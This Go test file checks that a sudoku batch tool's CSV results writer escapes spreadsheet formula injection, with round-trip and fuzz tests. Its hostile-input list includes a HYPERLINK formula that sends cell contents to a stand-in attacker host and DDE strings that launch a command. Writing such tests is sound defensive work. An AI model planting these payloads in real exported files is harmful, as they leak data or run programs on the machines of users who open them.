package rundir

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"sudokubatch/solvers"
)

// A text field that a spreadsheet would run as a formula is
// written with a single quote in front, and the Reader takes it off.

// hostile are text fields that a spreadsheet runs (or that look like
// escaped ones), and some that it does not.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"=1+2", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "=\r\n1",
	"'=1", "''=1", "'", "''", "'a", "'-", "=", "+", "@", "-", "a=b", "x,=y", `"=1"`, " =1", "=,1", "",
	"data/sudoku17.txt", "-5", "--", "'\t", "\n=1",
}

// writeRows writes rows with a Writer and returns the file.
func writeRows(t *testing.T, rows []Row) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.WriteHeader(); err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		if err := w.Write(&rows[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// readRows reads every row of a results.csv file.
func readRows(t *testing.T, data []byte) []Row {
	t.Helper()
	rd, err := NewReader(bytes.NewReader(data), "r.csv")
	if err != nil {
		t.Fatal(err)
	}
	var rows []Row
	for rd.Scan() {
		r, err := rd.Row()
		if err != nil {
			t.Fatalf("%v in\n%s", err, data)
		}
		rows = append(rows, *r)
	}
	if rd.Err() != nil {
		t.Fatal(rd.Err())
	}
	return rows
}

// runsAsFormula reports whether a spreadsheet would run a cell: it starts
// with = + - @ tab or CR and is not a lone character or a number.
func runsAsFormula(cell string) bool {
	if len(cell) < 2 || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		return false
	}
	if cell[0] == '-' && strings.Trim(cell[1:], "0123456789") == "" {
		return false // a negative integer
	}
	return true
}

// spaceBreaks turns line breaks into spaces, as the Writer does.
func spaceBreaks(s string) string {
	return strings.NewReplacer("\r\n", " ", "\n", " ", "\r", " ").Replace(s)
}

func hostileRow(i int, s string) Row {
	solver := s
	if strings.Trim(solver, "\r\n") == "" {
		solver = "x" + s // a row needs a solver
	}
	return Row{ID: i, Line: i + 1, Solver: solver, Status: solvers.StatusInvalid, Solutions: -1,
		Seed: uint64(i), Solution: s, Error: s, Corpus: s}
}

// TestHostileFieldsRunNoFormula writes rows whose text fields are hostile: read
// by a plain CSV reader (as a spreadsheet reads them), no cell runs as a
// formula; read by the Reader, the rows are those written (line breaks
// become spaces, as before).
func TestHostileFieldsRunNoFormula(t *testing.T) {
	var rows []Row
	for i, s := range hostile {
		rows = append(rows, hostileRow(i, s))
	}
	data := writeRows(t, rows)

	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(rows)+1 {
		t.Fatalf("%d records, want %d", len(recs), len(rows)+1)
	}
	for i, rec := range recs[1:] {
		for j, cell := range rec {
			if runsAsFormula(cell) {
				t.Errorf("row %d (%q), column %s: cell %q runs as a formula", i, hostile[i], Header[j], cell)
			}
		}
	}
	if got := recs[1+len(hostile)-1][14]; got != "'\n=1" && got != " =1" {
		t.Errorf("a line break in front of a formula: cell %q", got)
	}

	back := readRows(t, data)
	if len(back) != len(rows) {
		t.Fatalf("read %d rows, want %d", len(back), len(rows))
	}
	for i := range rows {
		want := rows[i]
		for _, f := range []*string{&want.Solver, &want.Solution, &want.Error, &want.Corpus} {
			*f = spaceBreaks(*f)
		}
		if back[i] != want {
			t.Errorf("row %d: read back\n%+v\nwant\n%+v", i, back[i], want)
		}
	}
}

// TestWriterFieldEncoding pins how the writer encodes some fields (the corpus
// column of a row).
func TestWriterFieldEncoding(t *testing.T) {
	for _, tt := range []struct{ in, out string }{
		{`=HYPERLINK("http://x","y")`, `"'=HYPERLINK(""http://x"",""y"")"`},
		{"=1+2", "'=1+2"},
		{"+1", "'+1"},
		{"-1+2", "'-1+2"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", `" x"`},
		{"'=1", "''=1"},
		{"''+1", "'''+1"},
		{"'", "'"},
		{"'a", "'a"},
		{"-", "-"},
		{"=", "="},
		{"'-", "''-"},
		{"=a,b", `"'=a,b"`},
		{"a=b", "a=b"},
		{"data/sudoku17.txt", "data/sudoku17.txt"},
	} {
		row := Row{Solver: "s", Solutions: -1, Corpus: tt.in}
		data := writeRows(t, []Row{row})
		line := strings.TrimSuffix(string(data[strings.IndexByte(string(data), '\n')+1:]), "\n")
		line = strings.TrimSuffix(line, ",0,0,0,,0,") // the timing columns after corpus, and self_ns
		if got := line[strings.Index(line, ",,,")+3:]; got != tt.out {
			t.Errorf("corpus %q written as %q, want %q", tt.in, got, tt.out)
		}
	}
}

// TestRowRoundTripShortStrings writes and reads back every string of up
// to four bytes over the bytes that matter (quote, formula leads, line
// breaks, CSV specials, a letter) in every text field: the Reader gives
// back the string written, line breaks turned into spaces.
func TestRowRoundTripShortStrings(t *testing.T) {
	alphabet := "'=+-@\t\r\n, \"a"
	strs := []string{""}
	for n, level := 0, []string{""}; n < 4; n++ {
		var next []string
		for _, s := range level {
			for _, c := range []byte(alphabet) {
				next = append(next, s+string(c))
			}
		}
		strs = append(strs, next...)
		level = next
	}
	var rows []Row
	for i, s := range strs {
		rows = append(rows, hostileRow(i, s))
	}
	back := readRows(t, writeRows(t, rows))
	if len(back) != len(rows) {
		t.Fatalf("read %d rows, want %d", len(back), len(rows))
	}
	for i := range rows {
		want := rows[i]
		for _, f := range []*string{&want.Solver, &want.Solution, &want.Error, &want.Corpus} {
			*f = spaceBreaks(*f)
		}
		if back[i] != want {
			t.Fatalf("%q: read back\n%+v\nwant\n%+v", strs[i], back[i], want)
		}
	}
}

// FuzzRowRoundTrip writes a row whose text fields are any string and
// reads it back: the same row, line breaks turned into spaces, and no
// cell that a spreadsheet runs.
func FuzzRowRoundTrip(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		row := hostileRow(7, s)
		data := writeRows(t, []Row{row})
		recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%q written as %q: %d records, %v", s, data, len(recs), err)
		}
		for j, cell := range recs[1] {
			if runsAsFormula(cell) {
				t.Fatalf("%q: column %s: cell %q runs as a formula", s, Header[j], cell)
			}
		}
		back := readRows(t, data)
		want := row
		for _, f := range []*string{&want.Solver, &want.Solution, &want.Error, &want.Corpus} {
			*f = spaceBreaks(*f)
		}
		if len(back) != 1 || back[0] != want {
			t.Fatalf("%q written as %q: read back %+v, want %+v", s, data, back, want)
		}
	})
}
